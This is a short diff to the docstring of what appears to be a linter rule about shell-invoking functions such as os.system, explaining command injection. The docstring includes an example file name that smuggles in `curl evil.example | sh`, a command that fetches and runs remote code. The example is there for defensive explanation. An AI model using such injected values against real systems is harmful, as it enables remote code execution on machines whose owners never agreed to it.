@@ -1,7 +1,7 @@
 """A command run by a function that always uses the shell, such as `os.system`.
 
-The shell reads the whole text as a script. A file called `a.png; curl evil.example | sh` is then two commands,
-and the second one belongs to whoever named the file.
+The shell reads the whole string as a script. A file called `a.png; curl evil.example | sh` is then two commands, and
+whoever named the file chose the second one.
 
 ## Bad
 
@@ -24,7 +24,7 @@ and the second one belongs to whoever named the file.
 
 ## When to suppress
 
-Where the command is written out in full in the code and no value goes into it.
+If the command is a constant that no value goes into.
 
 ## References
 
